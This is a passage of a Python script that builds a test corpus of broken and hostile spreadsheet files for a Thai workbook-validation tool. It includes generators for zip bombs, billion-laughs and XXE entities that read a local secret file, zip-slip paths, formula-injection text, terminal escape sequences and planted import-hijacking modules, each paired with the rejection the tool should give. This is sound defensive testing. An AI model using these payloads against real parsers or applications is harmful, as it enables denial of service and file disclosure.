    book.active["F6"] = 7  # an error, so that --annotate writes a copy
    book.save(path)


def make_hidden_sheet(path: Path, _: Path) -> None:
    write_xlsx(path, {"แผน": form_sheet([good(1)]), "ร่าง": form_sheet([good(7, dimension=8), good(8)])},
               hidden=frozenset({"ร่าง"}))


def make_html_xls(path: Path, _: Path) -> None:
    cells = "".join(f"<td>{c or ''}</td>" for c in HEADER_TOP)
    path.write_text(f'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
                    f"<body><table><tr>{cells}</tr></table></body></html>", encoding="utf-8")


def make_spreadsheet_2003(path: Path, _: Path) -> None:
    path.write_text('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook '
                    'xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="แผน" '
                    'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Table><Row><Cell><Data ss:Type="String">'
                    "ที่</Data></Cell></Row></Table></Worksheet></Workbook>", encoding="utf-8")


def make_csv(path: Path, _: Path) -> None:
    lines = [",".join(c or "" for c in HEADER_TOP), ",".join(str(v or "") for v in good(1))]
    path.write_bytes("\ufeff".encode() + "\r\n".join(lines).encode())


def make_noise(path: Path, _: Path) -> None:
    path.write_bytes(bytes((i * 7919 + 13) % 256 for i in range(64 * 1024)))


DOCX = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
ODT = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:document-content/>"}


def make_sparse_huge(path: Path, _: Path) -> None:
    with path.open("wb") as fh:  # a sparse file: 60 MB by its size, nothing on disk
        fh.write(b"PK\x03\x04")
        fh.truncate(60 * 2**20)


# --- round two (issue 11): references the first scan missed, numbers that are not numbers, long text

FAR_TEXT = '<c {attrs}><is><t>far away</t></is></c>'


def make_far_cell(row: str, cell: str) -> Callable[[Path, Path], None]:
    """A value placed far away by a reference written in a way the XML allows: `row` is the <row>
    tag's attributes, `cell` the <c> tag's."""
    def make(path: Path, _: Path) -> None:
        far = f"<row {row}>{FAR_TEXT.format(attrs=cell)}</row></sheetData>".encode()
        write_xlsx(path, {"แผน": form_sheet([good(1)]).replace(b"</sheetData>", far, 1)})
    return make


FAR_CELLS = [  # (case, what, row attributes, cell attributes)
    ("ref-attribute-order", "t= before r=", 'r="1048576"', 't="inlineStr" r="XFD1048576"'),
    ("ref-single-quotes", "r='XFD1048576'", "r='1048576'", "r='XFD1048576' t='inlineStr'"),
    ("ref-spaces-around-equals", 'r = "XFD1048576" across a line break', 'r = "1048576"', 'r =\n "XFD1048576" t="inlineStr"'),
    ("ref-lower-case", 'r="xfd1048576"', 'r="1048576"', 'r="xfd1048576" t="inlineStr"'),
    ("ref-row-beyond-grid", "row 99,999,999", 'r="99999999"', 'r="A99999999" t="inlineStr"'),
    ("ref-column-beyond-xfd", "column ZZZZ", 'r="9"', 'r="ZZZZ9" t="inlineStr"'),
    ("ref-character-reference", 'r="&#88;FD1048576"', 'r="1048576"', 'r="&#88;FD1048576" t="inlineStr"'),
    ("ref-by-row-only", "cells without r= in a far row", 'r="1048576"', 't="inlineStr"'),
]


def make_single_quoted_parts(path: Path, _: Path) -> None:
    """The workbook's sheet list and relationships in single quotes: a scan that could not find the
    sheet's part would have let calamine read it unguarded."""
    far = b"<row r='1048576'><c r='XFD1048576' t='inlineStr'><is><t>far</t></is></c></row></sheetData>"
    write_xlsx(path, {"แผน": form_sheet([good(1)]).replace(b"</sheetData>", far, 1)})
    with zipfile.ZipFile(path) as zf:
        parts = {i.filename: zf.read(i) for i in zf.infolist()}
    for name in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels"):
        parts[name] = parts[name].replace(b'"', b"'")
    make_zip_of(parts)(path, _)


def make_shared_count_single_quoted(path: Path, _: Path) -> None:
    sst = shared_strings(["โครงการ"], count=2_000_000_000).replace(b'"2000000000"', b"'2000000000'")
    write_xlsx(path, {"แผน": form_sheet([good(1, name=shared_cell(0))])}, shared_strings=sst)


def make_not_numbers(path: Path, _: Path) -> None:
    number = lambda text: Raw(f'<c r="{{ref}}"><v>{text}</v></c>')  # noqa: E731
    write_xlsx(path, {"แผน": form_sheet([
        good(1, budget=number("NaN")), good(2, budget=number("1e309")), good(3, budget=number("-inf")),
        good(4, budget="9" * 400), good(5, budget=number("9e307")), good(6, budget=number("9e307")),
        good(7, budget=-500), good(8, dimension="1" * 4500), good(9, dimension=number("inf")),
        good(10, quantity=number("NaN")), good(11, quantity="9" * 400), good(12, budget=10000)])})


LONG_THAI = "ตัวชี้วัดร้อยละความพึงพอใจของประชาชนที่เข้าร่วมโครงการอบรมคุณธรรมไม่น้อยกว่า"


def make_long_thai(path: Path, _: Path) -> None:
    # 4,990 letters without a space: row heights cut Thai into words, and a run this long cost 8 s a cell.
    text = (LONG_THAI * 80)[:4990]
    write_xlsx(path, {"แผน": form_sheet([good(i, indicator=text, name=f"โครงการ{i}{text[:4980]}") for i in range(1, 6)])})


def make_same_row(count: int) -> Callable[[Path, Path], None]:
    def make(path: Path, _: Path) -> None:
        write_xlsx(path, {"แผน": form_sheet([good(1, no=f"{i}.") for i in range(1, count + 1)])})
    return make


def make_control_characters(path: Path, _: Path) -> None:
    # ESC and BEL raw (XML 1.0 forbids them, calamine reads them) and as Excel writes them (_x001B_).
    write_xlsx(path, {"แผน": form_sheet([good(1, name="โครงการ\x1b[31mแดง\x07"),
                                         good(2, dimension="_x001B_]0;pwned_x0007_")])})


CASES: list[Case] = [
    # --- not a workbook --------------------------------------------------------------------------
    Case("empty", NOT_A_WORKBOOK, ".xlsx", write_bytes(b""), "0 bytes", 1, frozenset({"unreadable-file"}), "empty"),
    Case("html-table", NOT_A_WORKBOOK, ".xls", make_html_xls, "an HTML table saved as .xls, as web systems export",
         1, frozenset({"unreadable-file"}), "not-a-workbook"),
    Case("spreadsheet-2003", NOT_A_WORKBOOK, ".xls", make_spreadsheet_2003, "Excel 2003 XML (SpreadsheetML) named .xls",
         1, frozenset({"unreadable-file"}), "not-a-workbook"),
    Case("plain-text", NOT_A_WORKBOOK, ".xlsx", write_bytes("แผนปฏิบัติการ\nโครงการ 1\n".encode()), "Thai text",
         1, frozenset({"unreadable-file"}), "not-a-workbook"),
    Case("csv-renamed", NOT_A_WORKBOOK, ".xlsx", make_csv, "a CSV with a BOM, renamed .xlsx",
         1, frozenset({"unreadable-file"}), "not-a-workbook"),
    Case("pdf-renamed", NOT_A_WORKBOOK, ".xlsx", write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
         "a PDF cut short, named .xlsx: read as the PDF it is, and damaged", 1, frozenset({"unreadable-file"}), "corrupt"),
    Case("noise", NOT_A_WORKBOOK, ".xlsx", make_noise, "64 KB of binary noise", 1, frozenset({"unreadable-file"}),
         "not-a-workbook"),
    Case("truncated", NOT_A_WORKBOOK, ".xlsx", make_truncated, "the first half of a good workbook (a broken download)",
         1, frozenset({"unreadable-file"}), "corrupt"),
    Case("zip-without-workbook", NOT_A_WORKBOOK, ".xlsx", make_zip_of({"readme.txt": b"hello"}),
         "a zip with no workbook inside", 1, frozenset({"unreadable-file"}), "not-a-workbook"),
    Case("docx-renamed", NOT_A_WORKBOOK, ".xlsx", make_zip_of(DOCX), "a Word document renamed .xlsx",
         1, frozenset({"unreadable-file"}), "not-a-workbook"),
    Case("odt-renamed", NOT_A_WORKBOOK, ".ods", make_zip_of(ODT), "a Writer document renamed .ods",
         1, frozenset({"unreadable-file"}), "not-a-workbook"),
    Case("ods-renamed", NOT_A_WORKBOOK, ".xlsx", make_ods, "a real spreadsheet (.ods) renamed .xlsx: read by content",
         0, projects=2),
    Case("workbook-part-garbage", NOT_A_WORKBOOK, ".xlsx",
         make_zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"\x00\xff not xml at all"}),
         "a zip whose workbook part is garbage", 1, frozenset({"unreadable-file"}), "corrupt"),
    # --- protected or old ------------------------------------------------------------------------
    Case("password", PROTECTED_OR_OLD, ".xlsx", make_encrypted, "password-protected (encrypted with msoffcrypto-tool)",
         1, frozenset({"unreadable-file"}), "encrypted", needs="msoffcrypto"),
    Case("old-excel", PROTECTED_OR_OLD, ".xls", make_with_soffice("xls"), "a real Excel 97-2003 .xls (LibreOffice)",
         0, projects=2, merge=True, needs="soffice",
         records=[{"name": "โครงการทดสอบที่ 1", "budget": None}, {"name": "โครงการทดสอบที่ 2", "budget": 10000.0}]),
    Case("xls-renamed", PROTECTED_OR_OLD, ".xlsx", make_with_soffice("xls"), "a real .xls renamed .xlsx: read by content",
         0, projects=2, needs="soffice"),
    Case("libreoffice", PROTECTED_OR_OLD, ".ods", make_with_soffice("ods"), "a real OpenDocument .ods (LibreOffice)",
         0, projects=2, merge=True, needs="soffice",
         records=[{"name": "โครงการทดสอบที่ 1", "budget": None}, {"name": "โครงการทดสอบที่ 2", "budget": 10000.0}]),
    Case("macro", PROTECTED_OR_OLD, ".xlsm", make_xlsm, ".xlsm with an auto-run macro: read, never run, said so",
         1, frozenset({"macros-ignored", "bad-dimension"}), projects=2, merge=True),
    # --- built to hurt ---------------------------------------------------------------------------
    Case("zip-bomb", BUILT_TO_HURT, ".xlsx", make_zip_bomb, "a 1 MB file whose sheet inflates to 1.1 GB",
         1, frozenset({"unreadable-file"}), "zip-bomb"),
    Case("zip-bomb-lying", BUILT_TO_HURT, ".xlsx", make_lying_zip_bomb,
         "the same bomb with a header declaring 100 KB (and that 100 KB's CRC)", 1, frozenset({"unreadable-file"}),
         "zip-bomb"),
    Case("zip-many-entries", BUILT_TO_HURT, ".xlsx", make_many_entries, "a workbook with 30,000 zip entries",
         1, frozenset({"unreadable-file"}), "zip-bomb"),
    Case("too-large", BUILT_TO_HURT, ".xlsx", make_sparse_huge, "60 MB (a sparse file)",
         1, frozenset({"unreadable-file"}), "too-large"),
    Case("billion-laughs-strings", BUILT_TO_HURT, ".xlsx", make_entity_in_shared_strings(LAUGHS_DTD, "&lol9;"),
         "nested entities (10^9 'lol') in the shared strings", 1, frozenset({"unreadable-file"}), "corrupt"),
    Case("billion-laughs-sheet", BUILT_TO_HURT, ".xlsx", make_entity_in_sheet(LAUGHS_DTD, "&lol9;"),
         "nested entities in the sheet", 1, frozenset({"unreadable-file"}), "corrupt"),
    Case("billion-laughs-ods", BUILT_TO_HURT, ".ods", make_ods_laughs, "nested entities in an .ods",
         1, frozenset({"unreadable-file"}), "corrupt"),
    Case("xxe-strings", BUILT_TO_HURT, ".xlsx", make_entity_in_shared_strings(XXE_DTD, "&xxe;"),
         "an external entity naming a local file, in the shared strings", 1, frozenset({"unreadable-file"}), "corrupt"),
    Case("xxe-sheet", BUILT_TO_HURT, ".xlsx", make_entity_in_sheet(XXE_DTD, "&xxe;"),
         "an external entity naming a local file, in the sheet", 1, frozenset({"unreadable-file"}), "corrupt"),
    Case("xxe-properties", BUILT_TO_HURT, ".xlsx", make_xxe_in_properties,
         "an external entity in the document properties, which only the --annotate copy opens",
         1, frozenset({"bad-dimension"}), projects=2, merge=True),
    Case("xxe-dev-zero", BUILT_TO_HURT, ".xlsx", make_entity_in_sheet(XXE_DTD.replace("{url}", "file:///dev/zero"), "&xxe;"),
         "an external entity naming /dev/zero (endless, if it were ever read)", 1, frozenset({"unreadable-file"}),
         "corrupt"),
    Case("xxe-ods", BUILT_TO_HURT, ".ods", make_ods_xxe, "an external entity naming a local file, in an .ods",
         1, frozenset({"unreadable-file"}), "corrupt"),
    Case("ods-repeat-bomb", BUILT_TO_HURT, ".ods", make_ods_repeat_bomb,
         "an .ods cell repeated over 1,048,576 rows x 64 columns", 1, frozenset({"unreadable-file"}), "limit"),
    Case("merge-everything", BUILT_TO_HURT, ".xlsx", make_merge_everything, "one merged range A1:XFD1048576",
         1, frozenset({"header-not-found"})),
    Case("merge-far", BUILT_TO_HURT, ".xlsx", make_merge_far, "a merged range N1:XFD1048576 beside the table",
         0, projects=2, merge=True),
    Case("dimension-everything", BUILT_TO_HURT, ".xlsx", make_dimension_everything,
         "a <dimension> claiming A1:XFD1048576 over a small table", 0, projects=2),
    Case("dimension-stale", BUILT_TO_HURT, ".xlsx", make_stale_dimension, "a stale <dimension> A1:B3 over 20 rows",
         0, projects=20),
    Case("format-last-cell", BUILT_TO_HURT, ".xlsx", make_format_last_cell, "a formatted empty cell at XFD1048576",
         0, projects=2),
    Case("value-last-cell", BUILT_TO_HURT, ".xlsx", make_value_last_cell, "a value at XFD1048576",
         1, frozenset({"unreadable-file"}), "sheet-too-large"),
    Case("rows-20000", BUILT_TO_HURT, ".xlsx", make_many_rows(20_000), "20,000 projects: the most a file may hold",
         0, projects=20_000),
    Case("rows-100000", BUILT_TO_HURT, ".xlsx", make_many_rows(100_000), "100,000 projects", 1,
         frozenset({"unreadable-file"}), "too-many-rows", projects=0),
    Case("text-1mb", BUILT_TO_HURT, ".xlsx", make_huge_text, "a ตัวชี้วัด of 1,000,000 characters",
         1, frozenset({"text-too-long"}), projects=2),
    Case("sheets-10000", BUILT_TO_HURT, ".xlsx", make_many_sheets, "10,000 sheets",
         1, frozenset({"unreadable-file"}), "too-many-sheets", projects=1),
    Case("shared-count-lie", BUILT_TO_HURT, ".xlsx", make_lying_shared_count,
         "shared strings claiming 2,000,000,000 entries (a reader reserving room for them dies)",
         1, frozenset({"unreadable-file"}), "corrupt"),
    Case("cells-never-closed", BUILT_TO_HURT, ".xlsx", make_unclosed_cells,
         "55,000 formula cells that never close (a regular-expression trap)", 1, frozenset({"unreadable-file"}),
         "corrupt"),
    Case("sheet-tags-never-closed", BUILT_TO_HURT, ".xlsx", make_unclosed_sheets,
         "140,000 <sheet tags that never close in the workbook part", 1, frozenset({"unreadable-file"}), "corrupt"),
    Case("nested-runs", BUILT_TO_HURT, ".xlsx", make_nested_runs, "a project name in rich text nested 140,000 deep",
         0, projects=2),
    Case("nested-elements", BUILT_TO_HURT, ".xlsx", make_nested_elements,
         "140,000 nested unknown elements after the data, with an error to mark up", 1, frozenset({"bad-dimension"}),
         projects=2),
    Case("zip-slip-names", BUILT_TO_HURT, ".xlsx", make_zip_slip, "entries named ../../../../tmp/… and /etc/…",
         0, projects=1),
    # --- odd but honest --------------------------------------------------------------------------
    Case("formulas-cached", ODD_BUT_HONEST, ".xlsx", make_formulas(True), "formulas with their computed values",
         0, projects=1, merge=True, records=[{"name": "โครงการสูตร", "budget": 15000.0, "dimension": 2}]),
    Case("formulas-uncached", ODD_BUT_HONEST, ".xlsx", make_formulas(False),
         "formulas never computed (as written by scripts)", 1, frozenset({"formula-without-value"}), projects=1),
    Case("google-style", ODD_BUT_HONEST, ".xlsx", make_google_style,
         "an exporter's file: no <dimension>, spans, styles or workbook view; cells without references",
         0, projects=2, merge=True,
         records=[{"name": "โครงการทดสอบที่ 1", "q3": False}, {"name": "โครงการทดสอบที่ 2", "budget": 2500.5, "q3": True}]),
    Case("prefixed-xml", ODD_BUT_HONEST, ".xlsx", make_prefixed, "every element namespace-prefixed (<x:c>)",
         0, projects=2),
    Case("rich-text", ODD_BUT_HONEST, ".xlsx", make_rich_text, "rich text runs in a shared and an inline string",
         0, projects=1, merge=True, records=[{"name": "โครงการอบรม คุณธรรม", "indicator": "มีการอบรม"}]),
    Case("dates-for-numbers", ODD_BUT_HONEST, ".xlsx", make_dates, "dates where a budget, quantity and มิติ belong",
         1, frozenset({"excel-date"}), projects=3),
    Case("duration", ODD_BUT_HONEST, ".xlsx", make_duration, "a duration ([h]:mm:ss) and a time of day as ตัวชี้วัด",
         0, projects=2, merge=True, records=[{"name": "โครงการทดสอบที่ 1", "indicator": "30:15:00"},
                                             {"name": "โครงการทดสอบที่ 2", "indicator": "01:30:00"}]),
    Case("hidden-rows", ODD_BUT_HONEST, ".xlsx", make_hidden_rows, "a hidden project row: read like the others, and said",
         0, frozenset({"hidden-row"}), projects=3),
    Case("hidden-sheet", ODD_BUT_HONEST, ".xlsx", make_hidden_sheet, "a hidden draft sheet with errors: not read",
         0, projects=1),
    Case("split-header", ODD_BUT_HONEST, ".xlsx", make_split_header,
         "the header's words split over two rows and merged across columns", 0, projects=2, merge=True,
         records=[{"name": "โครงการทดสอบที่ 1", "department": "สำนักปลัด"}, {"name": "โครงการทดสอบที่ 2"}]),
    Case("two-tables", ODD_BUT_HONEST, ".xlsx", make_two_tables, "two tables on one sheet, the first with its totals",
         0, projects=4, merge=True),
    Case("thai-traps", ODD_BUT_HONEST, ".xlsx", make_thai_traps,
         "zero-width spaces, ํ+า, tone before vowel, PDF spaces, Latin o for ๐, mixed digits, '-' for none",
         0, projects=4, merge=True, records=[
             {"name": "โครงการอบรมคุณธรรม", "department": "กองคลัง", "budget": 10000.0},
             {"name": "โครงการส่งเสริมการทำงาน", "budget": 10000.0, "quantity": 20.0},
             {"name": "โครงการสม\u0e31\u0e48ครสมาน", "budget": None, "dimension": 3},  # vowel, then tone mark
             {"name": "โครงการ เว้น วรรค", "department": "สำนักปลัด", "budget": None, "dimension": 4}]),
    # --- injection ----------------------------------------------------------------------------------
    Case("injection", INJECTION, ".xlsx", make_injection, "= + - @ cmd| HYPERLINK WEBSERVICE as text in every column",
         1, frozenset({"bad-budget", "bad-dimension"}), projects=3, merge=True, records=[
             {"name": INJECTED[0], "indicator": INJECTED[1], "outcome": INJECTED[2], "unit": INJECTED[3]},
             {"name": INJECTED[4], "indicator": INJECTED[5], "quantity": "=1+1"}]),
    Case("injection-text-cells", INJECTION, ".xlsx", make_openpyxl_formula_text,
         "formula-like text stored as text cells by a spreadsheet program", 1, frozenset({"bad-dimension"}),
         projects=2, merge=True, records=[{"name": INJECTED[0]}, {"name": "โครงการทดสอบที่ 2", "indicator": INJECTED[5]}]),
    # --- round two: references in every style the XML allows, each far past the grid
    *(Case(name, BUILT_TO_HURT, ".xlsx", make_far_cell(row, cell), f"a value far away, its reference: {what}",
           1, frozenset({"unreadable-file"}), "sheet-too-large") for name, what, row, cell in FAR_CELLS),
    Case("parts-single-quoted", BUILT_TO_HURT, ".xlsx", make_single_quoted_parts,
         "the sheet list and relationships in single quotes, a value far away", 1, frozenset({"unreadable-file"}),
         "sheet-too-large"),
    Case("shared-count-lie-single-quoted", BUILT_TO_HURT, ".xlsx", make_shared_count_single_quoted,
         "uniqueCount='2000000000' in single quotes", 1, frozenset({"unreadable-file"}), "corrupt"),
    Case("numbers-not-numbers", BUILT_TO_HURT, ".xlsx", make_not_numbers,
         "NaN, ±inf, 1e309, 400 nines, two budgets of 9e307, a negative budget, a มิติ of 4,500 digits",
         1, frozenset({"bad-budget", "bad-dimension", "bad-quantity"}), projects=12, merge=True,
         records=[{"name": "โครงการทดสอบที่ 12", "budget": 10000.0}, {"name": "โครงการทดสอบที่ 11", "quantity": "9" * 400},
                  {"name": "โครงการทดสอบที่ 5", "budget": None}]),
    Case("long-thai-without-spaces", BUILT_TO_HURT, ".xlsx", make_long_thai,
         "5 projects whose name and ตัวชี้วัด are 4,990 Thai letters without a space", 0, projects=5, merge=True),
    Case("same-row-10000", BUILT_TO_HURT, ".xlsx", make_same_row(10_000), "the example row 10,000 times",
         0, frozenset({"duplicate-project"}), projects=10_000),
    Case("control-characters", INJECTION, ".xlsx", make_control_characters,
         "ESC and BEL in cells, raw and as _x001B_: never sent raw to a terminal", 1, frozenset({"bad-dimension"}),
         projects=2, merge=True),
]


# --- scenes: a command run on a folder, for what one file cannot show ------------------------------
# (the current folder, several files at once, file names, the console, the outputs' folder)

@dataclass
class Scene:
    name: str
    group: str
    what: str
    make: Callable[[Path], None]  # fills the folder of inputs
    args: tuple[str, ...]  # after `ita-workbook`: {inputs} the folder of inputs, {out} a new folder for
    # outputs, {file} a regular file (to be taken for a folder), {long} a name of 300 bytes
    exit: int
    codes: frozenset[str] | None = None  # every problem code of the JSON report, when there is one
    reasons: frozenset[str] = frozenset()  # values of its unreadable-file problems
    says: str = ""  # a text stdout or stderr holds
    env: dict[str, str] = field(default_factory=dict)
    inside: bool = False  # run from inside the folder of inputs (cd รับคืน && ita-workbook validate .)
    needs: str | None = None


PLANTED_MARK = "PLANTED-CODE-RAN"
# Modules that are not the standard library's but are imported while a workbook is read or written.
THIRD_PARTY = ("ita_workbook", "python_calamine", "openpyxl", "et_xmlfile", "xlsxwriter", "pandas", "numpy",
               "pandera", "pythainlp", "click", "typing_extensions", "dateutil", "pytz", "tzdata", "six")


def plant_modules(folder: Path) -> None:
    """A module named like every module of the standard library and every library the tool uses:
    imported from here, it leaves a mark next to the folder."""
    mark = folder.parent / PLANTED_MARK
    for name in (*sorted(sys.stdlib_module_names), *THIRD_PARTY):
        (folder / f"{name}.py").write_text(f"open({str(mark)!r} + '-{name}', 'w').close()\n", encoding="utf-8")


def make_planted(count: int) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        good_workbook(folder / "กองคลัง.xlsx", department="กองคลัง")
        make_ods(folder / "กองช่าง.ods", folder)
        source = (folder / "กองคลัง.xlsx").read_bytes()
        for i in range(count):  # enough plans for the province's worker processes
            (folder / f"อปท{i:03}.xlsx").write_bytes(source)
        plant_modules(folder)
    return make


def make_mixed_folder(folder: Path) -> None:
    """Good files around files that stop a reader: the others must still be reported."""
    good_workbook(folder / "a-good.xlsx", department="กองคลัง")
    make_ods_repeat_bomb(folder / "b-ods-repeat-bomb.ods", folder)
    for name, _what, row, cell in FAR_CELLS[:3]:
        make_far_cell(row, cell)(folder / f"c-{name}.xlsx", folder)
    make_ods(folder / "d-good.ods", folder)
    write_xlsx(folder / "e-good.xlsx", {"แผน": form_sheet([good(n, department="กองช่าง") for n in (7, 8, 9)])})


TIS620_NAME = "กองคลัง.xlsx".encode("cp874")


def make_tis620_names(folder: Path) -> None:
    """A file named in TIS-620 bytes, as a zip made on Thai Windows unpacks on Linux."""
    import os

    good_workbook(Path(os.fsdecode(bytes(folder) + b"/" + TIS620_NAME)), department="กองคลัง")
    write_xlsx(Path(os.fsdecode(bytes(folder) + b"/" + "สำนักปลัด ".encode("cp874") + b"x.xlsx")),
               {"แผน": form_sheet([good(1, dimension=9)])})
    write_xlsx(folder / "กองช่าง.xlsx", {"แผน": form_sheet([good(3, department="กองช่าง"), good(4, department="กองช่าง")])})


def make_control_folder(folder: Path) -> None:
    make_control_characters(folder / "ควบคุม\x1b[2J.xlsx", folder)


def make_special_entries(folder: Path) -> None:
    import os

    good_workbook(folder / "a-good.xlsx")
    (folder / "b-dangling.xlsx").symlink_to(folder / "nowhere.xlsx")
    os.mkfifo(folder / "c-fifo.xlsx")  # opened, it would wait for ever for a writer
    (folder / "d-device.xlsx").symlink_to("/dev/zero")  # read, it would never end
    (folder / "e-folder.xlsx").mkdir()


PLAN_TOML = ('[organisation]\nname = "เทศบาลตำบลทดสอบ"\n\n[plan]\nfiscal_year = 2566\n\n'
             '[[departments]]\nname = "สำนักปลัด"\n')


def make_unicode_year(folder: Path) -> None:
    write_xlsx(folder / "hidden-year.xlsx", {"แผน": form_sheet([good(1)]), "_ita_workbook": sheet_xml(
        [["kind", "department"], ["fiscal_year", "²⁵⁶⁷"], ["organisation", "เทศบาลตำบลทดสอบ"]])},
        hidden=frozenset({"_ita_workbook"}))
    (folder / "plan.toml").write_text(PLAN_TOML, encoding="utf-8")


def make_forged_master(folder: Path) -> None:
    """A master as merge writes it, its data sheet then edited: NaN, inf and negative budgets, a ลำดับ
    and a row number that are no numbers."""
    import openpyxl

    from ita_workbook.config import Config
    from ita_workbook.merge import merge_files

    merge_files([good_workbook(folder / "_source.xlsx", rows=5)], folder / "แผนรวม.xlsx",
                Config(organisation="เทศบาลตำบลทดสอบ", district="เมือง", province="พิจิตร", fiscal_year=2566))
    (folder / "_source.xlsx").unlink()
    book = openpyxl.load_workbook(folder / "แผนรวม.xlsx")
    data = book["ข้อมูล"]
    header = [c.value for c in data[1]]
    budget, number = header.index("budget") + 1, header.index("no") + 1
    for row, value in zip(range(2, 6), (float("nan"), float("inf"), -5000.0, 9e307)):
        data.cell(row, budget).value = value
    data.cell(6, number).value = float("inf")
    book.save(folder / "แผนรวม.xlsx")
    good_workbook(folder / "เทศบาลอื่น.xlsx")


def make_one_good(folder: Path) -> None:
    good_workbook(folder / "a.xlsx")
    write_xlsx(folder / "b.xlsx", {"แผน": form_sheet([good(1, dimension=9)])})


LONG_NAME = "ก" * 100  # 300 bytes in UTF-8: past the 255 a file name may have


SCENES: list[Scene] = [
    Scene("planted-modules-validate", BUILT_TO_HURT, "validate . from a folder where a module is planted for every "
          "module the tool and its reader import", make_planted(0), ("validate", ".", "--format", "json"), 0,
          inside=True, codes=frozenset({"duplicate-project", "file-not-read"})),  # the planted .py files, named
    Scene("planted-modules-province", BUILT_TO_HURT, "province . from that folder, with 200 plans (worker processes)",
          make_planted(200), ("province", ".", "-o", "{out}/p.xlsx", "--format", "json"), 1, inside=True),
    Scene("one-file-stops-the-reader", BUILT_TO_HURT, "good files around an .ods that exhausts the reader's memory "
          "and xlsx references the first scan missed", make_mixed_folder, ("validate", "{inputs}", "--format", "json"),
          1, frozenset({"unreadable-file", "duplicate-project"}), frozenset({"limit", "sheet-too-large"})),
    Scene("tis620-names-validate", ODD_BUT_HONEST, "file names in TIS-620 bytes: JSON stays UTF-8", make_tis620_names,
          ("validate", "{inputs}", "--format", "json"), 1, frozenset({"bad-dimension", "duplicate-project"})),
    Scene("tis620-names-text", ODD_BUT_HONEST, "the same, for a person: the names shown in Thai", make_tis620_names,
          ("validate", "{inputs}"), 1, says="กองคลัง.xlsx"),
    Scene("tis620-names-merge", ODD_BUT_HONEST, "merge of those files", make_tis620_names,
          ("merge", "{inputs}", "-o", "{out}/m.xlsx", "--org", "ทดสอบ", "--year", "2566", "--draft"), 0),
    Scene("tis620-names-province", ODD_BUT_HONEST, "province of those files", make_tis620_names,
          ("province", "{inputs}", "-o", "{out}/p.xlsx", "--format", "json"), 1),
    Scene("cp874-console", ODD_BUT_HONEST, "a Thai Windows console (cp874) that has no ■ ✓ ✗", make_tis620_names,
          ("validate", "{inputs}"), 1, env={"PYTHONIOENCODING": "cp874"}),
    Scene("control-characters-text", INJECTION, "ESC and BEL in cells and a file name, shown to a person",
          make_control_folder, ("validate", "{inputs}"), 1, says="\\x1b"),
    Scene("unicode-digits-year", ODD_BUT_HONEST, "a template's hidden year ²⁵⁶⁷", make_unicode_year,
          ("validate", "{inputs}/hidden-year.xlsx", "--config", "{inputs}/plan.toml", "--format", "json"), 0,
          frozenset()),
    Scene("unicode-digits-year-option", ODD_BUT_HONEST, "--year ²⁵⁶⁷", make_one_good,
          ("merge", "{inputs}/a.xlsx", "-o", "{out}/m.xlsx", "--org", "ทดสอบ", "--year", "²⁵⁶⁷"), 2, says="--year"),
    Scene("special-entries", BUILT_TO_HURT, "a dangling link, a FIFO, a link to /dev/zero and a folder, named *.xlsx",
          make_special_entries, ("validate", "{inputs}", "--format", "json"), 1, frozenset({"unreadable-file"}),
          frozenset({"not-found", "not-a-file"})),
    Scene("forged-master", BUILT_TO_HURT, "a master whose data sheet holds NaN, inf, negative and 9e307 budgets",
          make_forged_master, ("province", "{inputs}", "-o", "{out}/p.xlsx", "--format", "json"), 1),
    *(Scene(f"unwritable-{command}-{where}", ODD_BUT_HONEST, f"{command}: {what}", make_one_good,
            args.format(target=target).split("\x00"), 1, says="cannot write")
      for where, what, target in (("parent-is-file", "the output's folder is a file", "{file}/x"),
                                  ("name-too-long", "a 300-byte file name", "{out}/{long}"))
      for command, args in (("init", "init\x00-o\x00{target}.toml"),
                            ("template", "template\x00--blank\x00-o\x00{target}"),
                            ("merge", "merge\x00{{inputs}}/a.xlsx\x00-o\x00{target}.xlsx\x00--org\x00ทดสอบ\x00--year\x002566"),
                            ("province", "province\x00{{inputs}}/a.xlsx\x00-o\x00{target}.xlsx"),
                            ("annotate", "validate\x00{{inputs}}/b.xlsx\x00--annotate\x00{target}"))
      if not (command == "template" and where == "name-too-long")),
]


def available(need: str | None) -> bool:
    if need == "soffice":
        return shutil.which("soffice") is not None
    if need == "msoffcrypto":
        try:
            import msoffcrypto  # noqa: F401
        except ImportError:
            return False
    return True


def build(folder: Path) -> list[Case]:
    """Write every case whose tools are here into `folder`; return the cases written."""
    folder = folder.resolve()  # the entities name the secret by its absolute file:// address
    folder.mkdir(parents=True, exist_ok=True)
    (folder / SECRET_NAME).write_text(SECRET + "\n", encoding="utf-8")
    built = []
    for case in CASES:
        if available(case.needs):
            case.make(folder / case.filename, folder)
            built.append(case)
    return built


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python tests/corpus/build.py OUT", file=sys.stderr)
        return 2
    folder = Path(argv[0])
    for case in build(folder):
        size = (folder / case.filename).stat().st_size
        print(f"{case.filename:32} {size:>10,} B  exit {case.exit}  {','.join(sorted(case.codes)) or '-':28} {case.what}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
